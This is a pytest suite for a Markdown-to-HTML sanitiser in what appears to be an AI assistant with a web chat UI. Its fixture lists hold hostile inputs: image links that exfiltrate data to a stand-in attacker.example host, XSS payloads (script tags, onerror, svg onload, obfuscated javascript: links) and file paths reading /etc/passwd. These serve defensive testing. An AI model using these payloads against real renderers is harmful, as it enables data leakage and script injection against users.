"""Hostile Markdown through the parser-based sanitiser (assistant/safe_markdown.py): the HTML
it renders for the browser and the Markdown it writes to files load nothing and run nothing.

The HTML is checked by parsing it (html.parser), the Markdown by rendering it with a permissive
CommonMark renderer (raw HTML on) and parsing that, so the checks do not depend on spelling."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from assistant.safe_markdown import code_span, inline_markdown, is_safe_url, to_safe_html
from ui.web.sanitize import safe_html

ATTACKER = "http://attacker.example:8080/leak.png?d=secret"

# The six forms that got through the pattern-based filter in issue #17, then the usual ones.
SIX_FORMS = {
    "alt text in a code span": f"see ![`x`]({ATTACKER}) now",
    "escaped bracket in the alt text": f"see ![a\\]b]({ATTACKER}) now",
    "reference-style image": f"see ![x][r] now\n\n[r]: {ATTACKER}",
    "alt text over two lines": f"see ![two\nlines]({ATTACKER}) now",
    "title over two lines": f'see ![x]({ATTACKER} "a\nb") now',
    "nested brackets": f"see ![a [b [c]] d]({ATTACKER}) now",
}
MORE_IMAGES = {
    "angle destination": f"![x](<{ATTACKER}>)",
    "image in a link": f"[![x]({ATTACKER})](https://ok.example)",
    "reference in a list": f"- item ![x][R]\n\n[r]: <{ATTACKER}> 'title'",
    "collapsed reference": f"![x][]\n\n[x]: {ATTACKER}",
    "shortcut reference": f"![x]\n\n[x]: {ATTACKER}",
    "entity-encoded": "![x](http&#58;//attacker.example/p.png)",
    "in a table": f"| a |\n|---|\n| ![x]({ATTACKER}) |",
    "in a blockquote": f"> ![x]({ATTACKER})",
    "in emphasis": f"**![x]({ATTACKER})**",
    "protocol-relative": "![x](//attacker.example/p.png)",
    "data uri": "![x](data:image/png;base64,iVBORw0KGgo=)",
}
RAW_HTML = [
    "<script>alert(1)</script>",
    f"<img src={ATTACKER} onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=https://attacker.example></iframe>",
    "<svg/onload=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    f"<div>\n\n![x]({ATTACKER})\n\n</div>",
    f'<p style="background:url({ATTACKER})">x</p>',
    "<!-- comment --><style>body{background:url(http://attacker.example)}</style>",
]
HOSTILE_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\\script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](/gradio_api/file=/etc/passwd)",
]


class _Elements(HTMLParser):
    """Every element and attribute of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(name, value or "") for name, value in attrs]


def elements(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def dangers(html: str) -> list[str]:
    """What in rendered HTML could load something or run script."""
    parsed = elements(html)
    found = [t for t in parsed.tags if t not in ALLOWED_TAGS]
    for name, value in parsed.attrs:
        if name == "href" and not value.startswith(("http://", "https://", "mailto:")):
            found.append(f"href={value}")
        elif name not in ALLOWED_ATTRS:
            found.append(f"{name}={value}")
    return found


ALLOWED_TAGS = {
    "div", "p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "a",
}  # fmt: skip
ALLOWED_ATTRS = {"class", "href", "rel", "target", "title", "start", "style"}


def remote_requests(html: str) -> list[str]:
    """Elements that would make the browser fetch something by themselves (no click)."""
    parsed = elements(html)
    return [t for t in parsed.tags if t in ("img", "script", "iframe", "link", "style")] + [
        f"{n}={v}" for n, v in parsed.attrs if n in ("src", "srcset", "style") and "url" in v
    ]


def file_dangers(markdown: str) -> list[str]:
    """Render a Markdown file as a permissive viewer would (raw HTML on) and list dangers."""
    env: dict[str, object] = {}
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    html = parser.render(markdown, env)
    references = env.get("references") or {}
    assert isinstance(references, dict)
    found = [f"definition {label}" for label in references]
    return found + dangers(html)


@pytest.mark.parametrize("text", list(SIX_FORMS.values()), ids=list(SIX_FORMS))
def test_the_six_forms_that_got_through_load_nothing(text: str) -> None:
    html = to_safe_html(text)
    assert remote_requests(html) == [] and dangers(html) == []
    assert "attacker.example" not in html  # not even as a link: an image is its alt text
    assert "see" in html and "now" in html  # the text around it is kept
    assert file_dangers(inline_markdown(text)) == []


@pytest.mark.parametrize("text", list(MORE_IMAGES.values()), ids=list(MORE_IMAGES))
def test_no_image_form_survives(text: str) -> None:
    html = to_safe_html(text)
    assert "<img" not in html and dangers(html) == []
    assert file_dangers(inline_markdown(text)) == []


def test_an_image_shows_its_alt_text() -> None:
    assert to_safe_html(f"![图表 *Q3*]({ATTACKER})") == '<div class="pm-md"><p>图表 Q3</p></div>'


@pytest.mark.parametrize("text", RAW_HTML)
def test_raw_html_is_shown_as_text(text: str) -> None:
    html = to_safe_html(text)
    assert dangers(html) == [] and remote_requests(html) == []
    assert "&lt;" in html
    assert file_dangers(inline_markdown(text)) == []


@pytest.mark.parametrize("text", HOSTILE_LINKS)
def test_unsafe_link_is_reduced_to_its_text(text: str) -> None:
    html = to_safe_html(f"see {text} now")
    assert "<a " not in html and dangers(html) == []
    assert file_dangers(inline_markdown(f"see {text} now")) == []


def test_safe_links_stay_clickable_and_do_not_leak_the_referrer() -> None:
    html = to_safe_html("[design](https://example.com/a?b=c&d=e) and <mailto:pm@example.com>")
    parsed = elements(html)
    hrefs = [v for n, v in parsed.attrs if n == "href"]
    assert hrefs == ["https://example.com/a?b=c&d=e", "mailto:pm@example.com"]
    assert ("rel", "noopener noreferrer nofollow") in parsed.attrs


def test_entities_are_text_not_markup() -> None:
    html = to_safe_html("&lt;img src=x&gt; &#60;b&#62; &amp;")
    assert "<img" not in html and "<b>" not in html
    assert "&lt;img src=x&gt;" in html


def test_ordinary_markdown_still_renders() -> None:
    text = (
        "# 周报\n\n- **进度**: 完成 80%\n- 风险 ~~已关闭~~\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('<b>')\n```\n\n`<br>` ok"
    )
    parsed = elements(to_safe_html(text))
    for tag in ("h1", "ul", "strong", "s", "table", "td", "pre", "code"):
        assert tag in parsed.tags
    assert "<b>" not in to_safe_html(text).replace("&lt;b&gt;", "")


def test_html_is_one_line_so_gradio_passes_it_through() -> None:
    html = to_safe_html("a\n\nb\n\n```\nx\n\ny\n```")
    assert "\n" not in html and html.startswith('<div class="pm-md">')
    assert "x&#10;&#10;y" in html  # the code block keeps its blank line


def test_chat_keeps_single_line_breaks() -> None:
    assert "<br" in safe_html("line one\nline two", chat=True)
    assert "<br" not in safe_html("line one\nline two")


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Kafka 2025-04-12 (负责人: 张伟)", "Kafka 2025-04-12 (负责人: 张伟)"),
        ("# Not a heading", "\\# Not a heading"),
        ("- not a list", "\\- not a list"),
        ("1. not a list", "1\\. not a list"),
        ("a | b", "a \\| b"),
        ("[PR](https://github.com/x/y/pull/1)", "[PR](https://github.com/x/y/pull/1)"),
        (f"![x]({ATTACKER})", "x"),
        ("[r]: http://attacker.example", "\\[r\\]: http://attacker.example"),
        ("<b>x</b>", "&lt;b&gt;x&lt;/b&gt;"),
        ("two\nlines", "two lines"),
    ],
)
def test_inline_markdown_for_files(raw: str, expected: str) -> None:
    assert inline_markdown(raw) == expected


def test_code_span_fences_any_backticks() -> None:
    assert code_span("a.md") == "`a.md`"
    assert code_span("a`b.md") == "``a`b.md``"
    rendered = MarkdownIt("commonmark").renderInline(code_span("`x`![i](http://e/p)"))
    assert rendered.startswith("<code>") and "<img" not in rendered


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://a.example", True),
        ("http://a.example/x?y=1", True),
        ("mailto:x@y", True),
        ("#top", False),
        ("docs/a.md", False),
        ("//a.example/x", False),
        ("http:/x", False),
        ("javascript:x", False),
        (" JAVASCRIPT:x", False),
        ("data:image/png;base64,xx", False),
        ("ftp://x", False),
    ],
)
def test_is_safe_url(url: str, safe: bool) -> None:
    assert is_safe_url(url) is safe
